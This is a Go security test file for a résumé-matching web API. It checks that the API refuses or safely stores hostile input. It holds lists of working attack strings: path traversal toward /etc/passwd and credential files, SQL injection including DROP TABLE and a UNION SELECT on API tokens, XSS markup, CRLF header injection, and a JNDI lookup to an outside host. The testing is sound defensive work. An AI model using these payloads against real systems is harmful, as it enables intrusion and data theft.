package tests

import (
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"resume-matcher/models"
)

func TestAttacksByPath(t *testing.T) {
	eachMode(t, func(x target) []attack {
		attacks := refused(http.StatusNotFound, models.KindNotFound, map[string]string{
			"up from the docs":        x.get("/docs/../../../../etc/passwd"),
			"up, encoded":             x.get("/docs/%2e%2e%2f%2e%2e%2fetc/passwd"),
			"up, encoded twice":       x.get("/docs/%252e%252e%252fetc/passwd"),
			"up, overlong":            x.get("/docs/%c0%ae%c0%ae/etc/passwd"),
			"up with backslashes":     x.get(`/docs/..\..\etc\passwd`),
			"up, backslashes encoded": x.get("/docs/..%5c..%5cwindows%5cwin.ini"),
			"up with a parameter":     x.get("/docs/..;/metrics"),
			"docs' compressed file":   x.get("/docs/swagger-ui-bundle.js.gz"),
			"docs' licence":           x.get("/docs/LICENSE"),
			"docs' folder":            x.get("/docs/"),
			"NUL and an extension":    x.get("/docs/init.js%00.html"),
			"two slashes":             x.get("//api/v1/ping"),
			"two slashes and a host":  x.get("//" + marker + ".example/%2f.."),
			"slash at the end":        x.get("/api/v1/ping/"),
			"capitals":                x.get("/API/V1/PING"),
			"environment file":        x.get("/.env"),
			"repository":              x.get("/.git/config"),
			"profiles":                x.get("/debug/pprof/"),
			"variables":               x.get("/debug/vars"),
			"markup":                  x.get("/<script>" + marker + "</script>"),
			"template":                x.get("/${jndi:ldap://" + marker + ".example/a}"),
			"line break":              x.get("/%0d%0aSet-Cookie:%20" + marker),
		})
		attacks = append(attacks, refused(http.StatusUnprocessableEntity, models.KindValidation, idAttacks(x))...)
		return append(attacks,
			// Who may call is decided by the endpoint that is found, so another spelling of its address opens nothing.
			attack{name: "encoded slash", request: x.get("/api%2fv1%2fping"), status: http.StatusOK, check: pong},
			attack{name: "asterisk in the path", request: x.get("/api/v1/resumes/*/matches"), status: http.StatusUnprocessableEntity, code: models.KindValidation},
			attack{name: "nil id", request: x.get("/api/v1/jobs/00000000-0000-0000-0000-000000000000"), status: http.StatusNotFound, code: models.KindJobNotFound},
			attack{name: "résumé's id for a job", request: x.get("/api/v1/jobs/" + x.resume), status: http.StatusNotFound, code: models.KindJobNotFound},
			attack{name: "workspace's id for a résumé", request: x.get("/api/v1/resumes?resume_id=" + models.DefaultWorkspaceID), status: http.StatusNotFound, code: models.KindResumeNotFound},
		)
	})
}

// hostileValues are none of them an id, a number, or a word of a list.
var hostileValues = map[string]string{
	"quote":         "' OR '1'='1",
	"comment":       "1; DROP TABLE resumes; --",
	"union":         "' UNION SELECT hash FROM api_tokens--",
	"sleep":         "1) OR pg_sleep(10)--",
	"blob":          "'||randomblob(1000000000)||'",
	"NUL":           "a\x00",
	"invalid UTF-8": "\xff\xfe",
	"line break":    "a\r\nSet-Cookie: a=1",
	"template":      "{{.}}${7*7}",
	"markup":        `"><img src=x onerror=alert(1)>`,
	"format":        "%n%s%s",
	"operator":      `{"$ne":null}`,
}

// idAttacks put hostile values where an id, a number or a word is asked for.
func idAttacks(x target) map[string]string {
	requests := map[string]string{}
	for name, value := range hostileValues {
		text := url.QueryEscape(marker + value)
		segment := url.PathEscape(strings.ReplaceAll(marker+value, "/", ""))
		requests["job by query: "+name] = x.get("/api/v1/jobs?job_id=" + text)
		requests["job by path: "+name] = x.get("/api/v1/jobs/" + segment)
		requests["résumé by query: "+name] = x.get("/api/v1/resumes?resume_id=" + text)
		requests["matches' résumé: "+name] = x.get("/api/v1/resumes/" + segment + "/matches")
		requests["matches' limit: "+name] = x.get("/api/v1/resumes/" + x.resume + "/matches?limit=" + text)
		requests["list's limit: "+name] = x.get("/api/v1/resumes/list?limit=" + text)
		requests["list's offset: "+name] = x.get("/api/v1/resumes/list?offset=" + text)
		requests["list's master: "+name] = x.get("/api/v1/resumes/list?include_master=" + text)
		requests["deleted résumé: "+name] = x.head("DELETE", "/api/v1/resumes/"+segment) + "\r\n"
		requests["cache's type: "+name] = x.head("DELETE", "/api/v1/cache/entity/"+segment+"/"+x.resume) + "\r\n"
		requests["cache's id: "+name] = x.head("DELETE", "/api/v1/cache/entity/resume/"+segment) + "\r\n"
		requests["cache's key: "+name] = x.head("DELETE", "/api/v1/cache/key/"+segment) + "\r\n"
	}
	for name, query := range map[string]string{
		"negative limit": "limit=-1", "limit beyond the most": "limit=1001", "limit beyond 64 bits": "limit=9223372036854775808",
		"limit with a sign": "limit=%2B1e3", "limit in hex": "limit=0x10", "fraction": "limit=1.5", "negative offset": "offset=-9223372036854775808",
		"limit twice": "limit=1&limit=" + marker, "semicolon": "limit=1;" + marker + "=1", "bad encoding": "limit=%zz",
		"cut encoding": marker + "=%", "word for a flag": "include_master=" + marker,
	} {
		requests["list: "+name] = x.get("/api/v1/resumes/list?" + query)
	}
	return requests
}

// TestHostileTextIsKeptAsText stores what means something to a database, a browser or a terminal, and reads it back as it was.
func TestHostileTextIsKeptAsText(t *testing.T) {
	for _, x := range []target{newTarget(t), newSessionTarget(t)} {
		for name, value := range hostileValues {
			if name == "NUL" || name == "invalid UTF-8" || name == "line break" {
				continue // refused, by the attacks on JSON
			}
			t.Run(name, func(t *testing.T) {
				r := x.Patch(t, "/api/v1/resumes/"+x.resume, map[string]any{
					"personalInfo":   map[string]any{"name": value, "title": value, "email": value, "phone": value, "location": value, "website": value},
					"summary":        value,
					"workExperience": []any{map[string]any{"id": 1, "title": value, "company": value, "years": value, "description": []string{value}}},
					"additional":     map[string]any{"technicalSkills": []string{value}, "languages": []string{value}},
					"customSections": map[string]any{value: map[string]any{"sectionType": "text", "text": value}},
				})
				require.Equal(t, http.StatusOK, r.Status, "%s", r.Body)
				assert.Equal(t, "nosniff", r.Header.Get("X-Content-Type-Options"))
				assert.NotContains(t, string(r.Body), "<img", "markup is escaped in JSON")
				data := x.Server.resume(t, x.resume).Data.Processed
				assert.Equal(t, value, data.Summary)
				assert.Equal(t, value, data.PersonalInfo.Name)
				require.Len(t, data.WorkExperience, 1)
				assert.Equal(t, []string{value}, data.WorkExperience[0].Description)
				assert.Equal(t, value, data.CustomSections[value].Text)

				require.Equal(t, http.StatusOK, x.Patch(t, "/api/v1/resumes/"+x.resume+"/title", map[string]any{"title": value}).Status)
				assert.Equal(t, value, x.Server.resume(t, x.resume).Data.Title)
				job := x.UploadJob(t, "Go developer "+value)
				var stored struct{ Content string }
				x.Get(t, "/api/v1/jobs/"+job).Decode(t, &stored)
				assert.Equal(t, "Go developer "+value, stored.Content)
				assert.Equal(t, http.StatusOK, x.Post(t, "/api/v1/match", map[string]any{"resume_id": x.resume, "job_id": job}).Status)
			})
		}
		var count int64
		require.NoError(t, x.DB.Model(&models.Resume{}).Count(&count).Error)
		assert.EqualValues(t, 1, count)
	}
}

// TestFileNamesAreOnlyNames uploads names that mean a place elsewhere.
func TestFileNamesAreOnlyNames(t *testing.T) {
	x := newTarget(t)
	for i, c := range []struct{ sent, kept string }{
		{"../../../etc/passwd", "passwd"},
		{`..\\..\\windows\\win.ini`, "win.ini"},
		{"/etc/shadow", "shadow"},
		{`C:\\Users\\a\\cv.txt`, "cv.txt"},
		{"..", "resume"},
		{".", "resume"},
		{"/", "resume"},
		{"CON", "CON"},
		{"con.txt::$DATA", "con.txt::$DATA"},
		{"<img src=x>.txt", "<img src=x>.txt"},
		{"'; DROP TABLE resumes; --.txt", "'; DROP TABLE resumes; --.txt"},
		{"a\xff\xfe.txt", "a.txt"},
		{"%2e%2e%2fpasswd", "%2e%2e%2fpasswd"},
		{"\u202etxt.exe", "\u202etxt.exe"},
	} {
		t.Run(c.sent, func(t *testing.T) {
			r := x.exchange(t, x.upload(c.sent, resumeText("Person "+string(rune('A'+i)))), false)
			require.Equal(t, http.StatusOK, r.Status, "%s", r.Body)
			id, _ := r.JSON(t)["resume_id"].(string)
			var row models.Resume
			require.NoError(t, x.DB.Take(&row, "id = ?", id).Error)
			assert.Equal(t, c.kept, row.Filename)
		})
	}
}
